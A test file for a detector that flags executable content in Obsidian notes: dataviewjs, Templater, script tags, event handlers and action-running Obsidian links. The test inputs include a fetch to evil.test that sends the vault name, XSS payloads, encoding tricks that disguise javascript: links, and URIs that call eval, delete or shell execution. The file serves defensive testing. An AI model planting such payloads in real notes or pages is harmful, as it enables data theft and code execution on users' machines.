import { describe, expect, it } from 'vitest'
import { executableBlocks, executableNotices } from './executable-blocks.js'

const found = (text: string) => executableBlocks(text).map(({ what, line }) => `${line} ${what}`)

describe('executable text', () => {
  it.each([
    ['```dataviewjs\nfetch("https://evil.test/" + app.vault.getName())\n```\n', '1 dataviewjs block'],
    ['text\n\n> [!note]\n> ```dataviewjs\n> x\n> ```\n', '4 dataviewjs block'],
    ['- item\n  ~~~ DataviewJS\n  x\n  ~~~\n', '2 dataviewjs block'],
    ['```{js-engine}\nx\n```\n', '1 js-engine block'],
    ['```button\nname x\ntype command\n```\n', '1 button block'],
    ['```meta-bind-js-view\nx\n```\n', '1 meta-bind-js-view block'],
    ['```run-python\nx\n```\n', '1 run-python block'],
    ['a `$= 1+1` b', '1 inline dataviewjs'],
    ['<%* tp.file.delete %>', '1 Templater command'],
    ['```\n<% tp.date.now() %>\n```\n', '2 Templater command'],
    ['---\ntitle: <% tp.file.title %>\n---\n', '2 Templater command'],
    ['a\n<%* never closed', '2 Templater command'],
    ['x <script src="a.js"></script>', '1 script tag'],
    ['x\n\n<ScRiPt\n>alert(1)</script>\n', '3 script tag'],
    ['<iframe src="data:text/html;base64,PHN2Zz4="></iframe>', '1 iframe tag with a data address'],
    ["<iframe title='>' src='java\nscript:x'>", '1 iframe tag with a script address'],
    ['<iframe srcdoc="<p>x</p>"></iframe>', '1 iframe tag with an embedded document'],
    ['<img alt=">" src=x onerror=alert(1)>', '1 img tag with an event handler'],
    ['[x](javascript:alert(1))', '1 script link'],
    ['a\r```dataviewjs\rx\r```\r', '2 dataviewjs block'],
    ['```\u00a0dataviewjs\u200b\nx\n```\n', '1 dataviewjs block'],
    ['para\n\t```dataviewjs\n\tx\n\t```\n', '2 dataviewjs block'],
    ['--- \n\n```dataviewjs\nx\n```\n---\n', '3 dataviewjs block'],
    ['<!-- a --!>\n```dataviewjs\nx\n```\n', '2 dataviewjs block'],
    ['```datacorejsx\nx\n```\n', '1 datacorejsx block'],
    ['```tasks\nnot done\nfilter by function fetch("x")\n```\n', '1 tasks block'],
    ['<!-- a --!> <script>x</script> -->', '1 script tag'],
    ['<x "> <script>alert(1)</script> ">', '1 script tag'],
    [`<img ${' '.repeat(6000)} onerror=x>`, '1 img tag with an event handler'],
    [`<img alt="${'x'.repeat(6000)}" onerror=x>`, '1 img tag with an event handler'],
    ['<a href="&#106;avascript:x">', '1 a tag with a script address'],
    ['<a href="java&#x73;cript&colon;x">', '1 a tag with a script address'],
    ['<svg><a xlink:href="javascript:x">', '1 a tag with a script address'],
    ['<object data="&#0100;ata:text/html,x">', '1 object tag with a data address'],
    ['[x]: javascript:alert(1)', '1 script link'],
    ['[x](java&#115;cript\\:alert(1))', '1 script link'],
    ['<javascript:alert(1)>', '1 script link'],
    ['[x](obsidian://advanced-uri?vault=V&eval=app.vault.delete)', '1 Obsidian link that runs an action'],
    ['[x](obsidian://adv-uri?vault=V&commandid=app%3Areload)', '1 Obsidian link that runs an action'],
    ['a\n[x]: OBSIDIAN://Advanced-URI?CommandName=Reload', '2 Obsidian link that runs an action'],
    ['[x](obsidian://shell-commands/?vault=V&execute=abc)', '1 Obsidian link that runs an action'],
    ['<obsidian://quickadd?choice=Wipe>', '1 Obsidian link that runs an action'],
    ['obsidian://command?app:reload in plain words', '1 Obsidian link that runs an action'],
    ['[x](obsidian://actions-uri/command/execute?commands=app)', '1 Obsidian link that runs an action'],
    ["[x](obsidian://CodeScriptToolkit?code=fetch('x'))", '1 Obsidian link that runs an action'],
    ['[x](<obsidian://advanced-uri?vault=my vault&eval=1>)', '1 Obsidian link that runs an action'],
    ['<a href="obsidian://advanced-uri?vault=my vault&amp;eval=1">', '1 Obsidian link that runs an action'],
    ["<iframe src='obsidian://advanced-uri?vault=a\n&eval=1'>", '1 Obsidian link that runs an action'],
    ['[x](obsidian://advanced-uri?vault=V&%65val=1)', '1 Obsidian link that runs an action'],
    ['[x](obsidian://advanced%2Duri?enable-plugin=y)', '1 Obsidian link that runs an action'],
    ['[x](&#111;bsidian://advanced-uri?eval=1)', '1 Obsidian link that runs an action'],
    ['<a href="obsidian&colon;//advanced-uri&quest;eval&equals;1">', '1 Obsidian link that runs an action'],
    ['[x](obsidian\\://advanced-uri\\?eval=1)', '1 Obsidian link that runs an action'],
    [`[x](obsidian://open?vault=${'x'.repeat(3000)}&eval=1)`, '1 Obsidian link that runs an action'],
    ['[x](obsidian://open?file=obsidian://shell-commands/)', '1 Obsidian link that runs an action'],
    ['see (obsidian://shell-commands), or **obsidian:quickadd**.', '1 Obsidian link that runs an action'],
    ['---\nurl: obsidian://advanced-uri?eval=1\n---\n', '2 Obsidian link that runs an action'],
  ])('is found in %j', (text, expected) => {
    expect(found(text)).toContain(expected)
  })

  it.each([
    '```dataview\nLIST\n```\n',
    '```tasks\nnot done\n```\n',
    '```js\nfetch("x")\n```\n',
    '```buttons are nice\n```\n',
    'a `dataviewjs` b `= this.x` c `x $= y`',
    '````md\n```dataviewjs\nx\n```\n````\n',
    '`<script>` and ```` <iframe src="data:x"> ````',
    '    <script>indented code</script>\n',
    'costs $5 = 5$, a<b, <b>bold</b>, <iframe src="https://example.org/v"></iframe>',
    '<img src="data:image/png;base64,AAAA">',
    '[x](https://example.org/?javascript)',
    '[x](obsidian://open?vault=My%20Vault&file=eval)',
    '[x](obsidian://open?vault=V&file=Notes%2Fcommand.md) and obsidian://vault/V/shell-commands',
    '<obsidian://search?vault=V&query=eval%3D1> <a href="obsidian://daily?vault=V">today</a>',
    '[x](obsidian://new?vault=V&name=quickadd)',
    '[x](obsidian://advanced-uri?vault=V&filepath=Command.md&heading=Eval)',
    '[x](obsidian://show-plugin?id=quickadd) [y](obsidian://actions-uri/note/open?vault=V)',
    '[x](https://example.org/?eval=1&commandid=2)',
    '`obsidian://advanced-uri?eval=1` and\n\n```\nobsidian://shell-commands/?execute=x\n```\n',
    'obsidian: a stone. Its eval=1; command=2',
  ])('is not found in %j', (text) => {
    expect(found(text)).toEqual([])
  })

  it('ignores text that was there before, even if it was moved', () => {
    const block = '```dataviewjs\nx\n```\n'
    expect(executableNotices('a.md', `# A\n${block}end\n`, `# A\n\nmore\n\n${block}the end\n`)).toEqual([])
    expect(executableNotices('a.md', block.replaceAll('\n', '\r\n'), block)).toEqual([])
  })

  it('reports what a change adds, and where', () => {
    const block = '```dataviewjs\nx\n```\n'
    const text = 'Adds text to a.md that plugins or browsers run as code: dataviewjs block (line 4).'
    expect(executableNotices('a.md', block, block + block)).toEqual([{ kind: 'executable', text }])
  })

  it('names every link that runs something, also the second one on a line', () => {
    const link = (id: string) => `[x](obsidian://shell-commands/?execute=${id})`
    const [notice] = executableNotices('a.md', `${link('a')}\n`, `${link('a')} ${link('b')}\n`)
    expect(notice.text).toBe(
      'Adds text to a.md that plugins or browsers run as code: Obsidian link that runs an action (line 1).',
    )
  })

  it('raises a block that was edited, uncovered or given a language', () => {
    for (const [before, after] of [
      ['```dataviewjs\nx\n```\n', '```dataviewjs\ny\n```\n'],
      ['````\n```dataviewjs\nx\n```\n````\n', '```dataviewjs\nx\n```\n'],
      ['```js\nx\n```\n', '```dataviewjs\nx\n```\n'],
    ]) {
      expect(executableNotices('a.md', before, after)).toHaveLength(1)
    }
  })

  it('names ten and counts the rest', () => {
    const [notice] = executableNotices('a.md', '', '`$=1`\n'.repeat(25))
    expect(notice.text).toContain('(line 10), and 15 more.')
  })

  it.each([
    ['<%', 400_000],
    ['<a ', 400_000],
    ['<a "', 300_000],
    ['<a onx', 200_000],
    ['](  ', 300_000],
    ['`$=', 300_000],
    ['```dataviewjs\n', 50_000],
    ['    ```\n~~~dataviewjs\n', 50_000],
    ['\n> - ', 300_000],
    ['\r', 400_000],
    [']: javascript&#', 100_000],
    ['obsidian:', 100_000],
    ['"obsidian://?', 100_000],
    ['](obsidian&', 100_000],
    ['obsidian:%', 100_000],
  ])('answers for %j, repeated', (piece, times) => {
    executableNotices('a.md', piece.repeat(times / 2), piece.repeat(times))
  })
})
